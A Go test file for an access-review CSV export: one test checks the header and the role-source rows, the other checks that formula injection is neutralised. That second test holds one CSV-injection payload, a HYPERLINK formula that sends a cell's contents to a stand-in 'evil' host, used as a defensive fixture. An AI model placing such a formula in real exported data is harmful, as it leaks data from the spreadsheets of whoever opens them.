package access

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// The review as rows: one per principal and resource with the source of the role (covered
// grants left out), org owners once, on the organization; and as CSV with its header.
func TestReviewRows(t *testing.T) {
	ix := NewIndex(fixture())
	rows := ix.ReviewRows(ix.Review())
	var b bytes.Buffer
	if err := WriteReviewCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(recs[0], ",") != "principal_type,principal,principal_id,resource_kind,resource,resource_id,cloud,role,source" {
		t.Fatalf("header %v", recs[0])
	}
	got := map[string]string{}
	for _, r := range recs[1:] {
		got[r[1]+" "+r[4]] = r[7] + " | " + r[8] + " | " + r[6]
	}
	for k, want := range map[string]string{
		"fay@example.com acme":    "owner | group admins | ", // org owner: one row, on the organization
		"root-bot acme":           "owner | direct | ",
		"ben@example.com proj-a":  "collaborator | group dept | cloud-a", // team's readonly is covered
		"ben@example.com acme":    "collaborator | group team | ",
		"gus@example.com proj-b":  "owner | group solo | cloud-b", // gus's direct grants are covered
		"ann@example.com cloud-a": "collaborator | direct | ",
		"bot acme":                "collaborator | every service account | ",
		"bot proj-a":              "owner | direct | cloud-a",
	} {
		if got[k] != want {
			t.Errorf("row %q = %q, want %q", k, got[k], want)
		}
	}
	if _, ok := got["fay@example.com cloud-a"]; ok {
		t.Errorf("an org owner is listed on a cloud: %v", got)
	}
	if len(recs)-1 != len(rows) {
		t.Errorf("%d CSV records for %d rows", len(recs)-1, len(rows))
	}
}

// Names come from the IdP: a group called "=HYPERLINK(…)" must reach the auditor's
// spreadsheet as text, not as a formula.
func TestReviewCSVNeutralisesFormulas(t *testing.T) {
	var b strings.Builder
	rows := []ReviewRow{{PrincipalType: PrincipalGroup, Principal: `=HYPERLINK("https://evil/?"&A1,"x")`, PrincipalID: "g1",
		ResourceKind: KindOrganization, Resource: "acme", ResourceID: "o1", Role: RoleOwner, Source: "direct"}}
	if err := WriteReviewCSV(&b, rows); err != nil {
		t.Fatal(err)
	}
	if got := b.String(); !strings.Contains(got, `"'=HYPERLINK(""https://evil/?""&A1,""x"")"`) {
		t.Errorf("the formula cell was not neutralised:\n%s", got)
	}
}
